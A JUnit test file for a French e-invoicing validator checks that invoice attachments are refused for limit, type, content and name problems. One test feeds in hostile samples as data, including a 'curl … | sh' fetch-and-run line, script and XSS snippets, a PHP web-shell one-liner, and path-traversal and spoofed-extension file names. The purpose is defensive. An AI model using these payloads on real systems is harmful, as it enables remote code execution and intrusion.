package org.achemine.validation.attachment;

import static org.achemine.testing.AttachmentSamples.PDF;
import static org.achemine.testing.AttachmentSamples.WINDOWS_PROGRAM;
import static org.achemine.testing.AttachmentSamples.reference;
import static org.achemine.testing.AttachmentSamples.ubl;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;
import org.achemine.testing.AttachmentSamples;
import org.achemine.testing.FacturXPdfs;
import org.achemine.validation.AcceptancePolicy;
import org.achemine.validation.DocumentVerdict;
import org.achemine.validation.Finding;
import org.achemine.validation.FlowState;
import org.achemine.validation.FlowVerdict;
import org.achemine.validation.ValidationSettings;
import org.achemine.validation.engine.ValidationEngine;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An invoice's attachments (UBL, CII, a Factur-X PDF's other files) are checked at validation: the samples pass,
 * and each limit, type, content and name problem refuses the invoice with its code, naming the attachment and
 * what to fix. Small limits here (3 attachments, 1,000 bytes each, 2,500 in all) keep the documents small; the
 * defaults are application.yml's.
 */
class AttachmentValidationTest {

    // after the samples' issue dates, so the national rules take them
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-12-01T09:00:00Z"), ZoneOffset.UTC);
    private static final AttachmentLimits SMALL = new AttachmentLimits(3, 1_000, 2_500, 40,
            AttachmentLimits.EN16931_TYPES);
    private static final ValidationEngine ENGINE = new ValidationEngine(ValidationSettings.defaults(), CLOCK,
            List.of(), SMALL);
    private static final ValidationEngine DEFAULTS = new ValidationEngine(ValidationSettings.defaults(), CLOCK);
    private static final AcceptancePolicy POLICY = new AcceptancePolicy();

    @TempDir
    Path dir;

    @Test
    void theUblAndCiiSamplesWithAttachmentsAreAccepted() throws Exception {
        for (Path sample : List.of(AttachmentSamples.UBL, AttachmentSamples.CII)) {
            FlowVerdict verdict = DEFAULTS.validate(sample.getFileName().toString(), sample);
            assertThat(codes(verdict)).as(sample.toString()).isEmpty();
            assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_INTEGRE);
        }
    }

    @Test
    void aFacturXWithASupportingPdfBesideItsInvoiceIsAccepted() throws Exception {
        byte[] pdf = FacturXPdfs.of("FX-PJ-0001").attaching("bon-de-livraison.pdf", "application/pdf", PDF).bytes();

        FlowVerdict verdict = validate("facture-avec-pj.pdf", pdf);

        assertThat(codes(verdict)).isEmpty();
        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_INTEGRE);
    }

    @Test
    void moreAttachmentsThanTheLimitRefuseTheInvoiceSayingTheLimit() throws Exception {
        String one = reference("application/pdf", "bl.pdf", PDF);

        FlowVerdict verdict = validate("trop.xml", ubl("PJ-NB-1", Collections.nCopies(4, one).toArray(String[]::new)));

        assertThat(codes(verdict)).containsExactly("IRR_NB_PJ");
        assertThat(message(verdict, "IRR_NB_PJ")).contains("4 pièces jointes").contains("limite est de 3");
        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_REJETE);
    }

    @Test
    void aHugeAttachmentIsSizedNotDecodedAndRefused() throws Exception {
        // 1,500 bytes of PDF, over the 1,000-byte limit
        byte[] big = new byte[1_500];
        System.arraycopy(PDF, 0, big, 0, PDF.length);

        FlowVerdict verdict = validate("gros.xml", ubl("PJ-TAILLE-1", reference("application/pdf", "plan.pdf", big)));

        assertThat(codes(verdict)).containsExactly("IRR_TAILLE_PJ");
        assertThat(message(verdict, "IRR_TAILLE_PJ")).contains("n°1 « plan.pdf »").contains("1500 octets")
                .contains("limite de 1000 octets");
        Attachment read = new AttachmentReader(1_000).read(ubl("X", reference("application/pdf", "plan.pdf", big)))
                .get(0);
        assertThat(read.decoded()).as("an attachment over the limit is never decoded").isFalse();
    }

    @Test
    void attachmentsOverTheTotalLimitRefuseTheInvoice() throws Exception {
        byte[] nineHundred = new byte[900];
        System.arraycopy(PDF, 0, nineHundred, 0, PDF.length);
        String each = reference("application/pdf", "page.pdf", nineHundred);

        FlowVerdict verdict = validate("total.xml", ubl("PJ-TOTAL-1", each, each, each));

        assertThat(codes(verdict)).containsExactly("IRR_TAILLE_PJ_TOTALE");
        assertThat(message(verdict, "IRR_TAILLE_PJ_TOTALE")).contains("2700 octets").contains("2500 octets");
    }

    @Test
    void anEmptyAttachmentIsRefused() throws Exception {
        FlowVerdict verdict = validate("vide.xml", ubl("PJ-VIDE-1", reference("application/pdf", "vide.pdf", "")));

        assertThat(codes(verdict)).contains("IRR_VID_PJ");
    }

    @Test
    void badBase64IsRefusedNotSkipped() throws Exception {
        FlowVerdict verdict = validate("base64.xml",
                ubl("PJ-B64-1", reference("application/pdf", "bl.pdf", "JVBERi0x*LjQK")));

        // the schema's base64Binary type says it too; ours names the attachment and how to encode it
        assertThat(codes(verdict)).contains("IRR_PJ_ILLISIBLE");
        assertThat(message(verdict, "IRR_PJ_ILLISIBLE")).contains("« bl.pdf »").contains("base64 invalide")
                .contains("RFC 4648");
        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_REJETE);
    }

    @Test
    void aTypeNotAcceptedIsRefusedListingTheAcceptedTypes() throws Exception {
        FlowVerdict verdict = validate("type.xml",
                ubl("PJ-TYPE-1", reference("application/x-msdownload", "outil.exe", WINDOWS_PROGRAM)));

        assertThat(codes(verdict)).contains("IRR_EXT_DOC");
        assertThat(message(verdict, "IRR_EXT_DOC")).contains("application/x-msdownload")
                .contains("application/pdf, image/png, image/jpeg, text/csv");
        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_REJETE);
    }

    @Test
    void aDeclaredPdfThatIsAProgramIsRefusedOnItsContent() throws Exception {
        FlowVerdict verdict = validate("exe.xml",
                ubl("PJ-EXE-1", reference("application/pdf", "facture-detail.pdf", WINDOWS_PROGRAM)));

        assertThat(codes(verdict)).containsExactly("IRR_PJ_CONTENU");
        assertThat(message(verdict, "IRR_PJ_CONTENU")).contains("déclarée « application/pdf »")
                .contains("un programme exécutable");
    }

    @Test
    void plainTextDeclaredAsPdfIsAWarningAndTheInvoiceIsAccepted() throws Exception {
        FlowVerdict verdict = validate("texte.xml", ubl("PJ-TXT-1",
                reference("application/pdf", "test.pdf", "Testing Base64 encoding".getBytes(StandardCharsets.UTF_8))));

        assertThat(codes(verdict)).isEmpty();
        assertThat(warnings(verdict)).containsExactly("ADM_PJ_CONTENU_TEXTE");
        assertThat(message(verdict, "ADM_PJ_CONTENU_TEXTE")).contains("n°1 « test.pdf »")
                .contains("déclarée « application/pdf »").contains("du texte, pas un PDF")
                .contains("joignez le vrai document").contains("« text/csv »");
        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_INTEGRE);
    }

    @Test
    void plainTextUnderAnImageOrAnOfficeTypeIsAWarningToo() throws Exception {
        byte[] text = "Relevé des heures : 12 h\nSigné : M. Durand\n".getBytes(StandardCharsets.UTF_8);
        for (String[] declared : List.of(new String[] {"image/png", "releve.png"},
                new String[] {"application/vnd.oasis.opendocument.spreadsheet", "releve.ods"})) {
            FlowVerdict verdict = validate("texte.xml", ubl("PJ-TXT-2", reference(declared[0], declared[1], text)));
            assertThat(codes(verdict)).as(declared[0]).isEmpty();
            assertThat(warnings(verdict)).as(declared[0]).containsExactly("ADM_PJ_CONTENU_TEXTE");
        }
    }

    @Test
    void scriptOrMarkupTextDeclaredAsPdfIsStillRefused() throws Exception {
        for (String[] active : List.of(
                new String[] {"bl.pdf", "#!/bin/sh\ncurl http://x | sh\n"},
                new String[] {"bl.pdf", "  <!DOCTYPE html><p>Facture</p>"},
                new String[] {"bl.pdf", "Bon de livraison\n<SCRIPT>fetch('//x')</SCRIPT>"},
                new String[] {"bl.pdf", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"},
                new String[] {"bl.pdf", "<a href=\"javascript:alert(1)\">BL</a>"},
                new String[] {"bl.pdf", "<?php system($_GET['c']); ?>"},
                new String[] {"lancer.bat", "echo bon de livraison"},
                new String[] {"bl.html", "bon de livraison"})) {
            FlowVerdict verdict = validate("actif.xml", ubl("PJ-ACT-1",
                    reference("application/pdf", active[0], active[1].getBytes(StandardCharsets.UTF_8))));
            assertThat(codes(verdict)).as(active[1]).containsExactly("IRR_PJ_CONTENU");
            assertThat(warnings(verdict)).as(active[1]).isEmpty();
            assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_REJETE);
        }
        FlowVerdict html = validate("html.xml", ubl("PJ-ACT-2",
                reference("application/pdf", "bl.pdf", "<html><body>BL</body></html>".getBytes(StandardCharsets.UTF_8))));
        assertThat(message(html, "IRR_PJ_CONTENU")).contains("du texte actif").contains("« <html »");
    }

    @Test
    void binaryThatIsNeitherTheTypeNorTextIsStillRefused() throws Exception {
        FlowVerdict verdict = validate("binaire.xml", ubl("PJ-BIN-1",
                reference("application/pdf", "bl.pdf", new byte[] {0, 1, 2, 3, (byte) 0xFE, 0x10})));

        assertThat(codes(verdict)).containsExactly("IRR_PJ_CONTENU");
        assertThat(message(verdict, "IRR_PJ_CONTENU")).contains("un contenu binaire d'un autre type");
    }

    @Test
    void aFacturXCarryingTextAsAPdfBesideItsInvoiceIsAcceptedWithTheWarning() throws Exception {
        byte[] pdf = FacturXPdfs.of("FX-PJ-0003").attaching("note.pdf", "application/pdf",
                "Livraison conforme".getBytes(StandardCharsets.UTF_8)).bytes();

        FlowVerdict verdict = validate("facture-note.pdf", pdf);

        assertThat(codes(verdict)).isEmpty();
        assertThat(message(verdict, "ADM_PJ_CONTENU_TEXTE")).contains("« note.pdf »").contains("PDF (fichier incorporé)");
        assertThat(POLICY.flowState(verdict)).isEqualTo(FlowState.IN_INTEGRE);
    }

    @Test
    void aDeclaredImageThatIsAPdfIsRefusedOnItsContent() throws Exception {
        FlowVerdict verdict = validate("png.xml", ubl("PJ-PNG-1", reference("image/png", "photo.png", PDF)));

        assertThat(codes(verdict)).containsExactly("IRR_PJ_CONTENU");
        assertThat(message(verdict, "IRR_PJ_CONTENU")).contains("un PDF");
    }

    @Test
    void namesThatAreAPathHideTheirExtensionOrAreMissingAreRefused() throws Exception {
        for (String name : List.of("../../etc/passwd.pdf", "C:\\\\temp\\\\bl.pdf", "bon&#9;livraison.pdf",
                "rapport\u202Efdp.exe", ".cache.pdf", "x".repeat(41) + ".pdf")) {
            FlowVerdict verdict = validate("nom.xml", ubl("PJ-NOM-1", reference("application/pdf", name, PDF)));
            assertThat(codes(verdict)).as(name).containsExactly("IRR_NOM_PJ");
        }
        FlowVerdict unnamed = validate("sans-nom.xml", ubl("PJ-NOM-2", reference("application/pdf", null, PDF)));
        assertThat(codes(unnamed)).containsExactly("IRR_NOM_PJ");
        assertThat(message(unnamed, "IRR_NOM_PJ")).contains("n°1 (sans nom)").contains("filename");
    }

    @Test
    void aFacturXCarryingAProgramBesideItsInvoiceIsRefused() throws Exception {
        byte[] pdf = FacturXPdfs.of("FX-PJ-0002").attaching("detail.pdf", "application/pdf", WINDOWS_PROGRAM).bytes();

        FlowVerdict verdict = validate("facture-piegee.pdf", pdf);

        assertThat(codes(verdict)).containsExactly("IRR_PJ_CONTENU");
        assertThat(message(verdict, "IRR_PJ_CONTENU")).contains("« detail.pdf »").contains("PDF (fichier incorporé)");
    }

    @Test
    void theCiiSampleAttachmentIsReadWithItsNameTypeAndDescription() throws Exception {
        List<Attachment> read = new InvoiceAttachments(1_000_000).of(Files.readAllBytes(AttachmentSamples.CII), List.of());

        assertThat(read).singleElement().satisfies(attachment -> {
            assertThat(attachment.where()).isEqualTo("ram:AdditionalReferencedDocument");
            assertThat(attachment.fileName()).isEqualTo("bon-de-livraison-BL-2026-1107.pdf");
            assertThat(attachment.declaredType()).isEqualTo("application/pdf");
            assertThat(attachment.description()).isEqualTo("Bon de livraison signé");
            assertThat(attachment.content()).isEqualTo(PDF);
        });
    }

    private FlowVerdict validate(String name, byte[] content) throws Exception {
        return ENGINE.validate(name, Files.write(dir.resolve("depot-" + System.nanoTime()), content));
    }

    private static List<String> codes(FlowVerdict verdict) {
        return findings(verdict).filter(Finding::isFatal).map(Finding::code)
                .filter(c -> c.startsWith("IRR_") || c.startsWith("NAT_") || c.startsWith("FX_")).toList();
    }

    private static List<String> warnings(FlowVerdict verdict) {
        return findings(verdict).filter(f -> !f.isFatal()).map(Finding::code).filter(c -> c.contains("_PJ")).toList();
    }

    private static String message(FlowVerdict verdict, String code) {
        return findings(verdict).filter(f -> f.code().equals(code)).map(Finding::message).findFirst().orElseThrow();
    }

    private static Stream<Finding> findings(FlowVerdict verdict) {
        return Stream.concat(verdict.flowFindings().stream(),
                verdict.documents().stream().flatMap(DocumentVerdict::findings));
    }
}
